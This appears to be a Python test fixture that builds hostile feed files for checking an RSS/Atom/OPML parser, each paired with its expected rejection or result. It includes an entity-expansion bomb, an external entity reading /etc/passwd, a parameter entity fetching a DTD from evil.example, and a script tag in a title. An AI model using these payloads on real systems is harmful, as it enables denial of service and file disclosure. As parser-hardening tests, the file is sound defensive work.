"""Feeds and outlines that are damaged, unfold without end, or hide something."""

from tests.hostile.corpus.file import File

ITEM = b"<item><title>Storm closes airport</title></item>"
ENTITIES = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 10))


def rss(inside, before=b""):
    return before + b'<rss version="2.0"><channel><title>Desk</title>' + inside + b"</channel></rss>"


def titled(title, before=b""):
    return rss(b"<item><title>" + title + b"</title></item>", before)


def bomb():
    declared = f'<!DOCTYPE rss [<!ENTITY e0 "laugh">{ENTITIES}]>'.encode()
    return titled(b"&e9;", declared)


def outside():
    declared = b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return titled(b"&x;", declared)


def parameters():
    declared = b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'
    return rss(ITEM, declared)


def named(text):
    return f'<?xml version="1.0" encoding="{text}"?>'.encode()


NETSCAPE = b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://evil.example/rss.dtd">'
FILES = {
    "entities that unfold to gigabytes": File("a.xml", bomb, "entities"),
    "entities that unfold, called CSV": File("a.csv", bomb, "entities"),
    "an entity of a file": File("a.rss", outside, "entities"),
    "an entity of the network": File("b.rss", parameters, "entities"),
    "the document type of RSS 0.91": File("c.rss", rss(ITEM, NETSCAPE), headlines=1),
    "elements inside each other": File("a.xml", b"<rss>" + b"<a>" * 400_000, "inside each other"),
    "entries inside each other": File("a.atom", b"<feed>" + b"<entry>" * 400_000, "inside each other"),
    "a million entries": File("d.rss", lambda: rss(b"<item/>" * 1_000_000), "more than 50,000 rows"),
    "cut off": File("e.rss", rss(ITEM)[:-30], "damaged or cut off"),
    "cut off inside a tag": File("f.rss", rss(ITEM)[:60], "damaged or cut off"),
    "no entries": File("g.rss", rss(b""), "no entries"),
    "entries without a title": File("h.rss", rss(b"<item><link>https://a.org</link></item>"), "empty"),
    "names that HTML knows and XML does not": File(
        "i.rss", titled(b"Caf&eacute; &mdash; AT&T"), headlines=1
    ),
    "names of names": File("j.rss", titled(b"Storm " + b"&AMP;amp;" * 20), headlines=1),
    "a comment that goes on": File("k.rss", b"<!--" + b" -" * 200_000 + rss(ITEM), "neither"),
    "comments without end": File("l.rss", b"<!-- -->" * 100_000 + rss(ITEM), "neither"),
    "white space without end": File("m.rss", b" " * 300_000 + rss(ITEM), "neither"),
    "an encoding that is none": File("n.rss", named("utf-99") + rss(ITEM), headlines=1),
    "an encoding of Python": File("o.rss", named("rot13") + rss(ITEM), headlines=1),
    "a wrong encoding": File(
        "p.rss", named("utf-8") + titled("Café fermé à Zürich".encode("cp1252")), headlines=1
    ),
    "XML that is no feed": File("q.xml", b"<note><title>Storm</title></note>", "neither"),
    "a picture of XML": File("r.xml", b"<svg><title>Storm</title></svg>", "neither"),
    "a PNG called RSS": File("s.rss", b"\x89PNG\r\n\x1a\n" + bytes(100), "PNG"),
    "a list of feeds": File(
        "a.opml", b'<opml><body><outline text="Desk" xmlUrl="http://a.org/x"/></body></opml>', "lists 1 feed"
    ),
    "an outline of headings": File("b.opml", b'<opml><outline text="Desk"/></opml>', "no entries"),
    "a script in a title": File(
        "t.rss", titled(b"&lt;script&gt;alert(1)&lt;/script&gt; Storm"), headlines=1
    ),
}  # fmt: skip
